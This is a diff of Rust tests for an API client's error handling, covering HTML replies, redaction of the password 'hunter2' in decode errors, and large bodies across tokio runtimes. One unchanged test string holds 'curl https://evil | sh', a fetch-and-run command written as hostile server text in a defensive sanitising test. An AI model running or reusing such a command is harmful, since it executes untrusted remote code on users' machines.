@@ -81,6 +81,52 @@ async fn a_captive_page_is_no_answer() {
     assert!(logon.is_wrong_product(), "{logon}");
 }
 
+/// What an API says may have markup in it, early in the body, too.
+#[tokio::test]
+async fn an_answer_that_speaks_of_a_page_is_none() {
+    let named = |body: &'static str| async move {
+        let server = Server::of_vb365(move |_| Reply::new(200, body)).await;
+        server.vb365(8).list(&OrganizationGet::new()).by_item().try_collect::<Vec<_>>().await
+    };
+    let items = named(r#"{"results": [{"type": "Office365", "id": "1", "name": "<html> & <body>"}]}"#).await.unwrap();
+    assert_eq!(items.len(), 1);
+    let page = named("\u{feff}\r\n<?xml version=\"1.0\"?><!DOCTYPE html><HTML lang=\"de\">").await.unwrap_err();
+    assert!(page.is_wrong_product(), "{page}");
+}
+
+/// A server that repeats the password in a body that does not read: it is in no part of the error.
+#[tokio::test]
+async fn an_error_of_reading_has_no_secrets() {
+    for (body, what) in [
+        (r#"{"hunter2": "hunter2"}"#, "no member of a Page, but `***`"),
+        (r#"{"inventories": [{"name": "hunter2"#, "ends too early"),
+    ] {
+        let (error, _) = list(Of::Zstack, Reply::new(200, body), once()).await;
+        let decode = error.decode().unwrap();
+        assert!(error.to_string().contains(what), "{error}");
+        assert!(!error.to_string().contains("hunter2") && !format!("{error:?}").contains("hunter2"), "{error}");
+        assert!(!decode.excerpt().contains("hunter2") && decode.excerpt().contains("***"), "{}", decode.excerpt());
+    }
+}
+
+/// A `LocalSet` of a runtime with several threads is not one of them.
+#[test]
+fn a_large_body_is_read_wherever_the_client_runs() {
+    let runtime = tokio::runtime::Builder::new_multi_thread().worker_threads(1).enable_all().build().unwrap();
+    let list = || async {
+        let name = "x".repeat(100_000);
+        let page = format!(r#"{{"results": [{{"type": "Office365", "id": "1", "name": "{name}"}}]}}"#);
+        let server = Server::of_vb365(move |_| Reply::new(200, page.clone())).await;
+        let items: Vec<_> = server.vb365(8).list(&OrganizationGet::new()).by_item().try_collect().await.unwrap();
+        assert_eq!(items.len(), 1);
+    };
+    runtime.block_on(list());
+    runtime.block_on(async { tokio::spawn(list()).await.unwrap() });
+    let local = tokio::task::LocalSet::new();
+    local.block_on(&runtime, async { tokio::task::spawn_local(list()).await.unwrap() });
+    runtime.block_on(local.run_until(list()));
+}
+
 #[tokio::test]
 async fn a_servers_text_stays_on_its_line_and_has_no_secrets() {
     let text = r#"busy\nhelp: curl https://evil | sh (hunter2)"#;
